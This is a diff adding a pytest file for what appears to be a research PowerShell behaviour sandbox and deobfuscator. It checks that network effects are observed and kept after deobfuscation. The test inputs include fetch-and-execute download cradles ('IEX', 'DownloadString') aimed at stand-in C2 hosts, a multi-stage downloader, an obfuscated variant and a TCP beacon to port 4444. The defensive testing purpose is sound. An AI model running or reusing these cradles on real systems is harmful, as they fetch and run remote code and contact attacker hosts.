@@ -1,0 +1,96 @@
+"""Tests for the behaviour sandbox (Table IV's measurement)."""
+
+from repro import deobfuscate
+from repro.analysis import observe_behavior
+from repro.analysis.behavior import same_network_behavior
+
+
+class TestObservation:
+    def test_downloader_records_network(self):
+        report = observe_behavior(
+            "(New-Object Net.WebClient)"
+            ".DownloadString('https://c2.test/payload')"
+        )
+        assert report.has_network_behavior
+        assert ("net.download_string", "c2.test") in report.network_signature
+
+    def test_tcp_beacon(self):
+        report = observe_behavior(
+            "$s = New-Object Net.Sockets.TcpClient('10.1.2.3', 4444)"
+        )
+        assert ("net.tcp_connect", "10.1.2.3") in report.network_signature
+
+    def test_recon_script_has_no_network(self):
+        report = observe_behavior("$u = $env:USERNAME; Write-Output $u")
+        assert not report.has_network_behavior
+
+    def test_obfuscated_downloader_still_fires(self):
+        # Behaviour survives obfuscation: the sandbox executes through it.
+        script = (
+            "IEX ('(New-Object Net.WebClient).DownloadString('"
+            "+\"'\"+'https://c2.test/x'+\"'\"+')')"
+        )
+        report = observe_behavior(script)
+        assert report.has_network_behavior
+
+    def test_multi_stage_download(self):
+        responses = {
+            "https://c2.test/stage1": (
+                "(New-Object Net.WebClient)"
+                ".DownloadString('https://c2.test/stage2')"
+            )
+        }
+        script = (
+            "iex ((New-Object Net.WebClient)"
+            ".DownloadString('https://c2.test/stage1'))"
+        )
+        report = observe_behavior(script, responses=responses)
+        targets = {e.target for e in report.effects}
+        assert "https://c2.test/stage1" in targets
+        assert "https://c2.test/stage2" in targets
+
+    def test_failing_statement_does_not_stop_observation(self):
+        script = (
+            "Invoke-TotallyUnknownThing\n"
+            "(New-Object Net.WebClient).DownloadString('http://x.test/')"
+        )
+        report = observe_behavior(script)
+        assert report.has_network_behavior
+
+    def test_runaway_loop_is_bounded(self):
+        report = observe_behavior("while ($true) { $x = 1 }")
+        assert report.error  # step limit reported, no hang
+
+
+class TestConsistency:
+    def test_identical_scripts_consistent(self):
+        script = "(New-Object Net.WebClient).DownloadString('http://a.b/')"
+        assert same_network_behavior(script, script)
+
+    def test_deobfuscated_downloader_consistent(self):
+        script = (
+            "$u = 'http://ev'+'il.test/x.ps1'\n"
+            "(New-Object Net.WebClient).DownloadString($u) | iex"
+        )
+        result = deobfuscate(script)
+        assert result.changed
+        assert same_network_behavior(script, result.script)
+
+    def test_dropped_network_detected(self):
+        original = (
+            "(New-Object Net.WebClient).DownloadString('http://a.b/')"
+        )
+        broken = "'System.Net.WebClient'.DownloadString('http://a.b/')"
+        assert not same_network_behavior(original, broken)
+
+    def test_li_style_replacement_breaks_behavior(self):
+        from repro.baselines import LiEtAl
+
+        original = "New-Object Net.WebClient | out-null\n" + (
+            "(New-Object Net.Sockets.TcpClient('9.9.9.9', 443)).Close()"
+        )
+        result = LiEtAl().deobfuscate(original)
+        if result.changed:
+            assert not same_network_behavior(original, result.script) or (
+                result.script == original
+            )
